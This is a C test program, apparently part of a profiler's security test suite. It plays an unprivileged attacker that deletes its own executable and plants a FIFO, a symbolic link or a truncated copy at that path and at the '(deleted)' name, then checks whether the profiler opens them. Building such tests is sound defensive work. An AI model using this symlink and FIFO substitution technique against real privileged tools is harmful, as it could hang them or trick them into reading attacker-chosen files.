/* An unprivileged user's attacks on how the profiler opens the files a
 * process maps (issue 10, cases 2 and 3). Run from a copy in a directory
 * the attacker owns:
 *
 *   attack_files fifo SECONDS        deletes its own executable and puts a
 *                                    FIFO at its path and at "PATH (deleted)",
 *                                    the name /proc/PID/maps shows
 *   attack_files symlink SECONDS T   the same with symbolic links to T
 *   attack_files copy SECONDS SRC    the same with copies of SRC, both cut
 *                                    to 0 bytes after 2 s
 *
 * It spins in 32 functions, so samples keep showing new addresses after
 * the 2 s. In fifo mode it prints "fifo opened" if anyone opened the FIFO
 * for reading. */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/sendfile.h>
#include <sys/stat.h>

#define NFN 32

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Leaf loops with no data references: they run from a copy of the code. */
#define SPIN(i) \
	__attribute__((noinline)) static unsigned long spin##i(unsigned long n) \
	{ \
		unsigned long x = i; \
		while (n--) \
			__asm__ volatile("" : "+r"(x)); \
		return x; \
	}
SPIN(0) SPIN(1) SPIN(2) SPIN(3) SPIN(4) SPIN(5) SPIN(6) SPIN(7)
SPIN(8) SPIN(9) SPIN(10) SPIN(11) SPIN(12) SPIN(13) SPIN(14) SPIN(15)
SPIN(16) SPIN(17) SPIN(18) SPIN(19) SPIN(20) SPIN(21) SPIN(22) SPIN(23)
SPIN(24) SPIN(25) SPIN(26) SPIN(27) SPIN(28) SPIN(29) SPIN(30) SPIN(31)

typedef unsigned long (*spin_fn)(unsigned long);
static spin_fn fns[NFN] = {
	spin0, spin1, spin2, spin3, spin4, spin5, spin6, spin7, spin8, spin9,
	spin10, spin11, spin12, spin13, spin14, spin15, spin16, spin17, spin18,
	spin19, spin20, spin21, spin22, spin23, spin24, spin25, spin26, spin27,
	spin28, spin29, spin30, spin31,
};

static char self[PATH_MAX], deleted[PATH_MAX + 16];

static int copy_file(const char *src, const char *dst)
{
	int in = open(src, O_RDONLY), out;
	struct stat st;
	off_t off = 0;

	if (in < 0 || fstat(in, &st))
		return -1;
	out = open(dst, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (out < 0)
		return -1;
	while (off < st.st_size)
		if (sendfile(out, in, &off, st.st_size - off) <= 0)
			return -1;
	close(in);
	return close(out);
}

static int plant(const char *mode, const char *arg)
{
	const char *names[2] = { self, deleted };

	if (unlink(self))
		return -1;
	for (int i = 0; i < 2; i++) {
		if (!strcmp(mode, "fifo") && mkfifo(names[i], 0644))
			return -1;
		if (!strcmp(mode, "symlink") && symlink(arg, names[i]))
			return -1;
		if (!strcmp(mode, "copy") && copy_file(arg, names[i]))
			return -1;
	}
	return 0;
}

int main(int argc, char **argv)
{
	double secs, t0;
	bool cut = false, fifo_seen = false;
	int fifo = !strcmp(argc > 1 ? argv[1] : "", "fifo");
	unsigned long sink = 0;
	ssize_t n;

	if (argc < 3 || ((!strcmp(argv[1], "symlink") ||
			  !strcmp(argv[1], "copy")) && argc < 4)) {
		fprintf(stderr, "usage: attack_files fifo|symlink|copy SECONDS [ARG]\n");
		return 2;
	}
	secs = atof(argv[2]);
	n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	if (n <= 0)
		return 1;
	self[n] = '\0';
	snprintf(deleted, sizeof(deleted), "%s (deleted)", self);
	if (plant(argv[1], argc > 3 ? argv[3] : NULL)) {
		perror("attack_files");
		return 1;
	}
	printf("ready\n");
	fflush(stdout);
	t0 = now();
	for (unsigned i = 0; now() - t0 < secs; i++) {
		sink += fns[i % NFN](200000);
		if (!cut && now() - t0 >= 2) {
			cut = true;
			if (!strcmp(argv[1], "copy") &&
			    (truncate(self, 0) || truncate(deleted, 0)))
				return 1;
		}
		if (fifo && !fifo_seen) {
			/* Succeeds only while someone has it open to read. */
			int w = open(deleted, O_WRONLY | O_NONBLOCK);
			int w2 = open(self, O_WRONLY | O_NONBLOCK);

			fifo_seen = w >= 0 || w2 >= 0;
			if (w >= 0)
				close(w);
			if (w2 >= 0)
				close(w2);
		}
	}
	if (fifo_seen)
		printf("fifo opened\n");
	printf("done %lu\n", sink & 1);
	return 0;
}
